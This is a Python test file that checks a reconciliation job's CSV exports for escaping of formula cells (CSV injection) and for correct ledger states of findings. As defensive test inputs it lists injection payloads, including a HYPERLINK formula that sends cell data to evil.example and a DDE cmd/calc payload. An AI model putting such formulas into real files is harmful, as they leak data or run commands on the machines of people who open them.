"""CSV files people open in a spreadsheet never carry a cell that runs as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import polars as pl
import pytest

from jobs.reconcile.report.spreadsheet_csv import spreadsheet_csv
from jobs.reconcile.report.written import findings_csv

NOW = datetime(2026, 6, 15, 5, 0, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_would_run_as_a_formula_is_prefixed_with_a_quote(cell: str) -> None:
    rows = _rows(spreadsheet_csv(pl.DataFrame({"key": [cell]})))
    assert rows == [["key"], ["'" + cell]]


def test_other_cells_and_csv_quoting_are_untouched() -> None:
    frame = pl.DataFrame(
        {
            "key": ["raw/u1/d1/a,b.pdf", 'say "hi"', "two\nlines", "a=b", " =spaced", None, ""],
            "count": [-5, 0, 1, 2, 3, 4, 5],  # numbers are no formulas: -5 stays a number
        }
    )
    data = spreadsheet_csv(frame)
    assert data.splitlines()[1] == b'"raw/u1/d1/a,b.pdf",-5'
    assert _rows(data)[1:] == [
        ["raw/u1/d1/a,b.pdf", "-5"],
        ['say "hi"', "0"],
        ["two\nlines", "1"],
        ["a=b", "2"],
        [" =spaced", "3"],
        ["", "4"],
        ["", "5"],
    ]


def test_categorical_text_is_escaped_too() -> None:
    frame = pl.DataFrame({"code": pl.Series(["=1+1", "OK"], dtype=pl.Categorical)})
    assert _rows(spreadsheet_csv(frame))[1:] == [["'=1+1"], ["OK"]]


def _findings(**columns: list[object]) -> pl.DataFrame:
    from jobs.reconcile.rules.findings import FINDINGS_SCHEMA

    row = dict.fromkeys(FINDINGS_SCHEMA) | {"code": "BAD_KEY", "severity": "warning"}
    return pl.DataFrame([{**row, **{k: v[0] for k, v in columns.items()}}], schema=FINDINGS_SCHEMA)


def test_findings_csv_escapes_a_hostile_key_and_evidence() -> None:
    from jobs.reconcile.chain import ledger as ledgers

    findings = _findings(
        userId=["-u1"],
        documentId=["@d1"],
        bucket=["raw-bucket"],
        key=['=HYPERLINK("http://evil.example")'],
        evidence=['{"size":1}'],
    )
    identified = ledgers.with_ids(findings)
    ledger = ledgers.carry(identified, None, [], NOW, [])
    header, row = _rows(findings_csv(identified, ledger))
    cells = dict(zip(header, row, strict=True))
    assert {k: cells[k] for k in ("code", "severity", "userId", "documentId", "bucket", "key", "evidence")} == {
        "code": "BAD_KEY",
        "severity": "warning",
        "userId": "'-u1",
        "documentId": "'@d1",
        "bucket": "raw-bucket",
        "key": '\'=HYPERLINK("http://evil.example")',
        "evidence": '{"size":1}',
    }


def test_findings_csv_leads_with_each_findings_id_and_life_from_the_ledger() -> None:
    """The file an auditor opens: id, state, first-seen date, nights open and acknowledgement."""
    from jobs.reconcile.chain import ledger as ledgers

    a = _findings(bucket=["raw"], key=["notes/a.txt"])
    b = _findings(bucket=["raw"], key=["notes/b.txt"])
    night1 = ledgers.carry(ledgers.with_ids(a), None, [], NOW - timedelta(days=1), [])
    tonight = ledgers.with_ids(pl.concat([a, b]))
    (a_id, b_id) = tonight.get_column("findingId").to_list()
    ack = ledgers.Acknowledgement(
        findingId=a_id,
        code="BAD_KEY",
        userId=None,
        documentId=None,
        by="Ada",
        reason="=cmd known",
        at=NOW - timedelta(hours=1),
        firstSeen=NOW - timedelta(days=1),
        expiresAt=NOW + timedelta(days=9),
    )
    ledger = ledgers.carry(tonight, night1, [ack], NOW, [])
    header, *rows = _rows(findings_csv(tonight, ledger))
    assert header[:7] == [
        "findingId",
        "state",
        "firstSeen",
        "nightsOpen",
        "acknowledgedBy",
        "acknowledgedReason",
        "acknowledgedUntil",
    ]
    by_id = {r[0]: r for r in rows}
    assert by_id[a_id][1:7] == ["acknowledged", "2026-06-14", "2", "Ada", "'=cmd known", "2026-06-24"]
    assert by_id[b_id][1:7] == ["new", "2026-06-15", "1", "", "", ""]


def test_findings_csv_lists_the_findings_carried_unchecked_and_those_resolved_tonight() -> None:
    """A night that judged nothing (inventory missing) found nothing: findings.csv still lists
    every open finding of the ledger, `unchecked`, with its life; a finding checked and not found
    is listed `resolved` with its resolution. (Before, the CSV held tonight's findings only: zero
    rows while the ledger held every open one).
    """
    from jobs.reconcile.chain import ledger as ledgers
    from jobs.reconcile.chain.coverage import Coverage
    from jobs.reconcile.rules.findings import Code

    a = _findings(bucket=["raw"], key=["notes/a.txt"])
    b = _findings(code=["ORPHAN_RESULT"], severity=["error"], bucket=["processed"], key=["processed/u1/d1/result.json"])
    night1 = ledgers.carry(ledgers.with_ids(pl.concat([a, b])), None, [], NOW - timedelta(days=1), [])
    (a_id, b_id) = night1.get_column("findingId").to_list()
    nothing = ledgers.with_ids(_findings().clear())
    judged_nothing = Coverage(codes=frozenset(), deep=False, buckets=frozenset(), table=None)
    ledger = ledgers.carry(nothing, night1, [], NOW, [], judged_nothing)
    header, *rows = _rows(findings_csv(nothing, ledger))
    by_id = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    assert set(by_id) == {a_id, b_id}
    assert {i: (r["state"], r["firstSeen"], r["nightsOpen"]) for i, r in by_id.items()} == {
        a_id: ("unchecked", "2026-06-14", "1"),
        b_id: ("unchecked", "2026-06-14", "1"),
    }
    assert by_id[b_id]["code"] == "ORPHAN_RESULT" and by_id[b_id]["key"] == "processed/u1/d1/result.json"
    # A night that judged only BAD_KEY and found it: b is carried, nothing more; then a night that
    # judged everything and found neither: both resolved.
    bad_key_only = Coverage(codes=frozenset({Code.BAD_KEY}), deep=False, buckets=frozenset(), table=None)
    tonight = ledgers.with_ids(a)
    ledger = ledgers.carry(tonight, night1, [], NOW, [], bad_key_only)
    header, *rows = _rows(findings_csv(tonight, ledger))
    assert sorted((r[0], r[1]) for r in rows) == sorted([(a_id, "open"), (b_id, "unchecked")])
    ledger = ledgers.carry(nothing, night1, [], NOW, [])
    header, *rows = _rows(findings_csv(nothing, ledger))
    states = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    assert {i: (r["state"], r["resolution"]) for i, r in states.items()} == {
        a_id: ("resolved", "no longer found"),
        b_id: ("resolved", "no longer found"),
    }
